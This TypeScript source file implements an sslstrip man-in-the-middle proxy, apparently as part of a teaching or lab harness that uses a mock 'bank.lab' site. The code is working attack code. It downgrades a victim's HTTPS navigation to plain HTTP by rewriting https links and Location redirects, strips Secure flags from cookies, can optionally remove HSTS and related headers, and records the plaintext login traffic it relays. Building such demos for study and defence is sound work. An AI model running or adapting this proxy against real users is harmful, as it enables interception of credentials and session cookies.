import { createServer as createHttpServer, request as httpRequest, type IncomingMessage, type OutgoingHttpHeaders, type ServerResponse } from 'node:http'
import { request as httpsRequest } from 'node:https'
import { connect as netConnect, createServer, type AddressInfo, type Server, type Socket } from 'node:net'
import { closeServer, listen } from '../genuine/genuine-server.js'
import { newConnectionRecord, type ConnectionRecord } from '../proxy/connection-record.js'
import { HttpSniffer } from '../proxy/http-sniffer.js'
import { answerOldestFlow } from '../proxy/response-recorder.js'
import { HOP_BY_HOP, stripHttpsLinks, stripSecureFlag, UPGRADE_HEADERS } from './strip-rewrites.js'
import { waitUntil } from '../util/wait-until.js'

const MAX_BODY_BYTES = 1024 * 1024
const TLS_HANDSHAKE_RECORD = 0x16

export interface StartSslstripProxyParams {
  /** The name the victim visits (Host, SNI upstream). */
  siteHost: string
  /** The genuine site's port 80 (it redirects to https). */
  upstreamHttp: { host: string; port: number }
  /** The genuine HTTPS server. */
  upstreamHttps: { host: string; port: number; caPem: string }
  /** Also remove Strict-Transport-Security, Public-Key-Pins and Alt-Svc (SSLsplit, bettercap hstshijack). Default: false. */
  stripUpgradeHeaders?: boolean
  /** Plain-HTTP visits (GET /) relayed honestly before the attack starts: the victim's safe first visit. Default: 0. */
  honestVisits?: number
  onRecord?: (record: ConnectionRecord) => void
  /** Default: 127.0.0.1. */
  host?: string
}

export interface SslstripProxy {
  host: string
  port: number
  records: ConnectionRecord[]
  /** host+path of every https URL it rewrote to http (it fetches those over TLS itself). */
  strippedUrls: () => string[]
  whenIdle(timeoutMs: number): Promise<void>
  close(): Promise<void>
}

/**
 * sslstrip (Marlinspike 2009) on one port, as if the victim's traffic for the
 * site were routed through the attacker: plain HTTP is answered by the
 * attacker, who fetches the page itself (over TLS when it had stripped the
 * URL), rewrites https:// links, Location redirects and Secure cookies, and
 * reads the login in the clear. TLS it cannot forge, so a client that goes
 * straight to https (HSTS) is relayed untouched.
 */
export async function startSslstripProxy(params: StartSslstripProxyParams): Promise<SslstripProxy> {
  const records: ConnectionRecord[] = []
  const sockets = new Set<Socket>()
  const stripped = new Set<string>()
  const recordOf = new WeakMap<Socket, ConnectionRecord>()
  let visits = 0
  let nextId = 1

  const httpSide = createHttpServer((request, response) => {
    const record = recordOf.get(request.socket)
    const isNavigation = request.method === 'GET' && (request.url ?? '/') === '/'
    if (isNavigation) visits++
    const isAttacking = visits > (params.honestVisits ?? 0)
    void relay(request, response, isAttacking, record).catch((error: Error) => {
      if (record !== undefined) record.error = { code: 'UPSTREAM_FAILED', message: error.message }
      if (!response.headersSent) response.statusCode = 502
      response.end()
    })
  })

  async function relay(request: IncomingMessage, response: ServerResponse, isAttacking: boolean, record: ConnectionRecord | undefined): Promise<void> {
    const path = request.url ?? '/'
    const key = `${params.siteHost}${path.split(/[?#]/)[0] ?? '/'}`
    const isSecure = isAttacking && stripped.has(key)
    const body = await readBounded(request)
    const headers: OutgoingHttpHeaders = { host: params.siteHost }
    for (const [name, value] of Object.entries(request.headers)) if (!HOP_BY_HOP.has(name) && name !== 'host' && value !== undefined) headers[name] = value
    if (body.length > 0) headers['content-length'] = String(body.length)
    headers.connection = 'close'
    const upstream = await fetchUpstream(isSecure, { path, method: request.method ?? 'GET', headers, body })
    if (record !== undefined) {
      // What the attacker read from the bank, before rewriting it: the flow's response (the dashboard's proxy view).
      answerOldestFlow(record.plaintext, { status: upstream.status, reason: upstream.reason, rawHeaders: upstream.rawHeaders, body: upstream.body })
      record.upstream = { version: isSecure ? 'TLS (attacker → bank)' : 'plain HTTP', cipher: null, error: null }
      record.outcome = 'relayed'
      record.bytes.fromUpstream += upstream.body.length
    }
    let responseBody = upstream.body
    for (const [name, value] of Object.entries(upstream.headers)) {
      if (HOP_BY_HOP.has(name) || value === undefined) continue
      if (isAttacking && params.stripUpgradeHeaders === true && (UPGRADE_HEADERS as readonly string[]).includes(name)) continue
      if (isAttacking && name === 'location' && typeof value === 'string') {
        const rewritten = stripHttpsLinks(value)
        rewritten.stripped.forEach((url) => stripped.add(url))
        response.setHeader(name, rewritten.text)
        // The bank's 301 http://bank.lab/ → https://bank.lab/ becomes a redirect to itself: a browser caches a 301
        // (RFC 9111 §4.2.2, heuristically fresh) and would loop on it from its cache; the next request is the one
        // the attacker answers over TLS itself, so the rewritten redirect must not be stored.
        if (rewritten.stripped.length > 0) response.setHeader('cache-control', 'no-store')
      } else if (isAttacking && name === 'set-cookie' && Array.isArray(value)) {
        response.setHeader(name, value.map(stripSecureFlag))
      } else response.setHeader(name, value)
    }
    if (isAttacking && /^text\/|json|javascript/.test(String(upstream.headers['content-type'] ?? ''))) {
      const rewritten = stripHttpsLinks(responseBody.toString('utf8'))
      rewritten.stripped.forEach((url) => stripped.add(url))
      responseBody = Buffer.from(rewritten.text, 'utf8')
    }
    response.statusCode = upstream.status
    response.setHeader('content-length', String(responseBody.length))
    response.setHeader('connection', 'close')
    if (record !== undefined) record.bytes.toClient += responseBody.length
    response.end(responseBody)
  }

  function fetchUpstream(
    isSecure: boolean,
    outgoing: { path: string; method: string; headers: OutgoingHttpHeaders; body: Buffer },
  ): Promise<{ status: number; reason: string; headers: IncomingMessage['headers']; rawHeaders: string[]; body: Buffer }> {
    return new Promise((resolve, reject) => {
      const onResponse = (upstream: IncomingMessage): void => {
        void readBounded(upstream).then(
          (body) => resolve({ status: upstream.statusCode ?? 502, reason: upstream.statusMessage ?? '', headers: upstream.headers, rawHeaders: upstream.rawHeaders, body }),
          reject,
        )
      }
      const common = { path: outgoing.path, method: outgoing.method, headers: outgoing.headers, timeout: 5_000 }
      const upstreamRequest = isSecure
        ? httpsRequest({ ...common, host: params.upstreamHttps.host, port: params.upstreamHttps.port, servername: params.siteHost, ca: params.upstreamHttps.caPem }, onResponse)
        : httpRequest({ ...common, host: params.upstreamHttp.host, port: params.upstreamHttp.port }, onResponse)
      upstreamRequest.once('timeout', () => upstreamRequest.destroy(new Error('upstream timed out')))
      upstreamRequest.once('error', reject)
      upstreamRequest.end(outgoing.body)
    })
  }

  const server: Server = createServer((socket) => {
    sockets.add(socket)
    const record = newConnectionRecord(nextId++, 'terminate', `${socket.remoteAddress ?? '?'}:${socket.remotePort ?? 0}`)
    record.sni = params.siteHost
    socket.on('error', () => {})
    socket.once('close', () => {
      sockets.delete(socket)
      record.endedAt = new Date().toISOString()
      if (record.outcome === 'open') record.outcome = 'client-hung-up'
      records.push(record)
      params.onRecord?.(record)
    })
    socket.once('data', (first: Buffer) => {
      socket.pause()
      socket.unshift(first)
      if (first[0] === TLS_HANDSHAKE_RECORD) relayTls(socket, record)
      else {
        recordOf.set(socket, record)
        const sniffer = new HttpSniffer(record.plaintext)
        socket.on('data', (chunk: Buffer) => {
          record.bytes.fromClient += chunk.length
          sniffer.push(chunk)
        })
        httpSide.emit('connection', socket)
      }
      socket.resume()
    })
  })

  /** TLS it cannot read: relayed to the genuine server as opaque bytes. */
  function relayTls(client: Socket, record: ConnectionRecord): void {
    record.mode = 'passthrough'
    record.outcome = 'passthrough'
    const upstream = netConnect(params.upstreamHttps.port, params.upstreamHttps.host)
    upstream.on('error', () => client.destroy())
    client.on('data', (chunk: Buffer) => (record.bytes.fromClient += chunk.length))
    upstream.on('data', (chunk: Buffer) => (record.bytes.toClient += chunk.length))
    client.pipe(upstream)
    upstream.pipe(client)
    client.once('close', () => upstream.destroy())
    upstream.once('close', () => client.destroy())
  }

  server.on('error', () => {})
  const host = params.host ?? '127.0.0.1'
  await listen(server, host, 0)
  return {
    host,
    port: (server.address() as AddressInfo).port,
    records,
    strippedUrls: () => [...stripped],
    whenIdle: (timeoutMs) => waitUntil(() => sockets.size === 0, timeoutMs),
    close: async () => {
      for (const socket of sockets) socket.destroy()
      httpSide.close()
      await closeServer(server)
    },
  }
}

function readBounded(stream: IncomingMessage): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const chunks: Buffer[] = []
    let size = 0
    stream.on('data', (chunk: Buffer) => {
      size += chunk.length
      if (size > MAX_BODY_BYTES) stream.destroy(new Error('body larger than 1 MiB'))
      else chunks.push(chunk)
    })
    stream.once('end', () => resolve(Buffer.concat(chunks)))
    stream.once('error', reject)
  })
}
